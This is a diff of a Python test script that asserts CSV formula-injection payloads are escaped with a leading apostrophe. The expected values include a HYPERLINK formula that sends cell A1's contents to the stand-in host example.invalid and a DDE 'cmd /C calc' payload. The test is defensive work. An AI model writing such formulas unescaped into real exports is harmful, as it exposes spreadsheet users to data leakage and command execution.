@@ -48,7 +48,7 @@ import csv, io, sys
 raw = open(sys.argv[1], encoding="utf-8-sig", newline="").read()
 rows = list(csv.reader(io.StringIO(raw, newline="")))
 want_txt = ["'=HYPERLINK(\"http://example.invalid/?\"&A1,\"details\")", "'+SUM(A1:A9)", "'-2+3",
-            "'@SUM(1+1)*cmd|' /C calc'!A0", "'\t=1+1", "'\r=1+1"]
+            "'@SUM(1+1)*cmd|' /C calc'!A0", "'\t'=1+1", "'\r=1+1"]
 assert rows[0] == ["id", "neg", "'=cmd", "numtext"], rows[0]
 assert [r[2] for r in rows[1:]] == want_txt, [r[2] for r in rows[1:]]
 # numbers stay numbers: the numeric column untouched, plain numbers as text untouched
